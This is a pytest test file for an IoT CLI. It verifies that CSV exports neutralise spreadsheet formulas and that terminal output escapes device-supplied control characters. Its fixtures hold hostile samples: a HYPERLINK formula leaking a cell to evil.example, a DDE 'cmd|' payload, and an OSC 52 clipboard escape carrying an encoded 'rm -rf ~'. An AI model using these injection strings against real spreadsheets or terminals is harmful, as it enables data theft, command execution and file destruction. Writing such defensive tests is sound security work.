"""Device text on its way out of the CLI: CSV exports cannot start a spreadsheet formula, and no
terminal output (tables, ``deadletters show``, ``alerts show``, ``devices show``) carries an escape
sequence, C1 control, carriage return or bidi control from a device.

The hostile strings are written straight to the stores, as rows stored before decode-time refusal
(or dead letters, which keep whatever arrived) would be; every command runs in-process.
"""

from __future__ import annotations

import csv
import io
import re
import time
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from sqlalchemy import select
from sqlalchemy.orm import Session

from core.config import Settings
from core.devicetext import CSV_TRIGGERS
from core.model import DeadLetter, Point
from ingest.stores import open_timeseries
from registry.alerts import store as alerts
from registry.alerts.engine import OPEN, Transition
from registry.alerts.rules import Rule, RuleKind
from registry.auth import BOOTSTRAP_ACTOR
from registry.db import make_engine
from registry.deadletters import DeadLetterStore
from registry.models import AlertRule
from tests.cli_runner import Result, run_iot

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
TERMINAL = (
    "ok\x1b]52;c;cm0gLXJmIH4=\x07 \x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\"  # OSC 52 clipboard, OSC 8 link
    "\r=FAKE\x9b31m \u202eevil\u2028"  # CR overwrite (a new CSV row if left bare), 8-bit CSI, RLO, LS
)
FORBIDDEN = re.compile("[\x1b\x07\r\x80-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
S = 10**9
Iot = Callable[..., Result]


@pytest.fixture
def cli(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Iterator[Iot]:
    monkeypatch.setenv("IOT_DATA_DIR", str(tmp_path))
    for var in ("IOT_API_KEY", "IOT_TIMESERIES_URL", "IOT_REGISTRY_URL", "IOT_DOCUMENTS_URL"):
        monkeypatch.delenv(var, raising=False)

    def iot(*args: str) -> Result:
        res = run_iot(monkeypatch, capsys, *args)
        assert res.code == 0, (args, res.err)
        return res

    iot("registry", "migrate")
    iot("devices", "add", "d1", "--type=-pump", "--site", "paris")
    now = time.time_ns()
    ts = open_timeseries("embedded", data_dir=tmp_path)
    ts.connect()
    try:
        assert ts.write([
            Point("sensor_readings", "d1", {"state": FORMULA, "t": -3.5, "note": "@SUM(A1)"}, now - 60 * S),
            Point("sensor_readings", "d1", {"state": "+33 1 23", "t": 2.0, "note": TERMINAL}, now - 30 * S),
            Point("event_logs", "d1", {"message": "-2+3+cmd|' /C calc'!A0", "code": "\tE1"}, now - 20 * S,
                  {"level": "error"}),
            Point("event_logs", "d1", {"message": TERMINAL, "code": "\rE2"}, now - 10 * S, {"level": "error"}),
        ]) == []  # fmt: skip
    finally:
        ts.close()
    engine = make_engine(Settings().resolved_registry_url())
    try:
        DeadLetterStore(engine).write([
            DeadLetter("invalid_json", "devices/d1/telemetry", f"{FORMULA}\n{TERMINAL}".encode(), time.time(),
                       "@detail " + TERMINAL, "d1"),
        ])  # fmt: skip
        with Session(engine) as s, s.begin():
            alerts.add_rule(s, BOOTSTRAP_ACTOR, Rule(0, "errors", RuleKind.EVENT, "critical", level="error"))
        with Session(engine) as s, s.begin():
            rule_id = int(s.scalar(select(AlertRule.id)) or 0)
            t = Transition(OPEN, rule_id, "d1", time.time(), None, "=1+2 " + TERMINAL, "critical", "paris")
            alerts.apply_transitions(s, [t])
    finally:
        engine.dispose()
    yield iot


def _rows(out: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(out)))


def _inert(rows: list[list[str]]) -> None:
    """No cell starts a formula, but a number (a spreadsheet reads ``-3.5`` as the number)."""
    for row in rows:
        for cell in row:
            if cell.startswith(CSV_TRIGGERS):
                float(cell)  # a number, or this raises


@pytest.mark.parametrize(
    "args",
    [
        ("telemetry", "query", "--device", "d1", "--since", "1h"),  # streamed, page by page
        ("telemetry", "query", "--device", "d1", "--since", "1h", "--limit", "10"),
        ("telemetry", "query", "--device", "d1", "--kind", "events", "--since", "1h"),
        ("deadletters", "list", "--payload"),
        ("alerts", "list"),
        ("devices", "list"),
    ],
    ids=["telemetry-stream", "telemetry-limit", "events", "deadletters", "alerts", "devices"],
)
def test_csv_exports_start_no_formula(cli: Iot, args: tuple[str, ...]) -> None:
    rows = _rows(cli(*args, "--format", "csv").out)
    assert len(rows) > 1
    _inert(rows)
    cells = {c for row in rows[1:] for c in row}
    if args[0] == "telemetry" and "events" not in args:
        assert "'" + FORMULA in cells and "'+33 1 23" in cells and "'@SUM(A1)" in cells
        assert "-3.5" in cells and TERMINAL in cells  # numbers untouched; a CR stays inside its cell
    elif "events" in args:
        assert {"'-2+3+cmd|' /C calc'!A0", "'\tE1", "'\rE2"} <= cells
    elif args[0] == "deadletters":
        assert any(c.startswith("'" + FORMULA) for c in cells) and any(c.startswith("'@detail") for c in cells)
    elif args[0] == "alerts":
        assert any(c.startswith("'=1+2") for c in cells)
    else:
        assert "'-pump" in cells


@pytest.mark.parametrize(
    "args",
    [
        ("deadletters", "show", "1"),
        ("deadletters", "list"),
        ("telemetry", "query", "--device", "d1", "--since", "1h"),
        ("telemetry", "query", "--device", "d1", "--kind", "events", "--since", "1h"),
        ("alerts", "list"),
        ("alerts", "show", "1"),
        ("devices", "show", "d1"),
    ],
    ids=["deadletters-show", "deadletters-list", "telemetry", "events", "alerts-list", "alerts-show", "devices-show"],
)
def test_terminal_output_carries_no_control_from_a_device(cli: Iot, args: tuple[str, ...]) -> None:
    out = cli(*args).out
    assert FORBIDDEN.search(out) is None, repr(FORBIDDEN.findall(out))
    assert "\\x1b]52;c;" in out or "\\x1b]8" in out  # the text is shown, escaped, not dropped


def test_deadletters_show_keeps_the_payload_lines(cli: Iot) -> None:
    out = cli("deadletters", "show", "1").out
    assert FORMULA + "\n" in out  # a newline between payload lines is kept; the rest escaped
    assert "\\r=FAKE\\x9b31m \\u202eevil\\u2028" in out
